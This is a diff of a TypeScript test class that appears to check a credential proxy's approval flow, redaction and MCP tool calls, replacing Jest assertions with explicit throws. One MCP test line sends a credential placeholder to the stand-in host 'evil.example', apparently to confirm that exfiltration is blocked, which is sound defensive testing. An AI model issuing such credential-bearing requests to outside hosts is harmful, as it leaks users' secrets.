@@ -45,8 +45,9 @@ export class CanaryGuests {
     const id = approvalOf(await cast.use(door, name, MIRRORED));
     await this.#decide(id, 'approve');
     const used = await cast.use(door, name, MIRRORED, { approvalId: id });
-    expect([used.status, used.code, used.body.toString()]).toEqual([200, null, expect.stringContaining('[redacted]')]);
-    expect(await cast.use(door, name, MIRRORED, { approvalId: id })).toMatchObject({ code: 'approval_used' });
+    if (used.code !== null || !used.body.includes('[redacted]')) throw new Error(`not mirrored: ${used.code}`);
+    const again = await cast.use(door, name, MIRRORED, { approvalId: id });
+    if (again.code !== 'approval_used') throw new Error(`used twice: ${again.status} ${again.code}`);
     await this.#decide(approvalOf(await cast.use(door, name, MIRRORED)), 'refuse');
   }
 
@@ -61,7 +62,7 @@ export class CanaryGuests {
     );
     await this.#decide(String(pending.body.data[0]?.id), 'approve');
     const answer = await held;
-    expect([answer.status, answer.body.status]).toEqual([200, 200]);
+    expectStatus(answer, 200);
     this.cast.note(answer);
   }
 
@@ -88,7 +89,8 @@ export class CanaryGuests {
       call('use_credential', { credential, purpose: 'by MCP', request: { ...MIRRORED, url } });
     try {
       await call('list_credentials', {});
-      expect((await use('by_mcp')).body).toContain('[redacted]');
+      const { body } = await use('by_mcp');
+      if (body?.includes('[redacted]') !== true) throw new Error(`not mirrored: ${body}`);
       await use('by_mcp', 'https://evil.example/{{CREDENTIAL}}');
       const asked = await use('by_mcp_guarded');
       await call('check_approval', { approval_id: asked.approval?.id });
@@ -118,7 +120,7 @@ export class CanaryGuests {
       const stream = await openai.chat.completions.create({ model: 'gpt-test', messages, stream: true });
       let text = '';
       for await (const { choices } of stream) text += choices[0]?.delta.content ?? '';
-      expect(text).toBe('Good Bearer [redacted] morning');
+      if (text !== 'Good Bearer [redacted] morning') throw new Error(`not streamed: ${text}`);
       cast.answers.push(text);
     } finally {
       await chancery.close();
@@ -128,6 +130,6 @@ export class CanaryGuests {
 
 const approvalOf = ({ status, body }: SeenUse): string => {
   const { approval } = JSON.parse(body.toString()) as { approval?: { id: string } };
-  expect([status, approval?.id]).toEqual([202, expect.stringMatching(/^apr_/)]);
-  return String(approval?.id);
+  if (status !== 202 || approval === undefined) throw new Error(`nobody is asked: ${status}`);
+  return approval.id;
 };
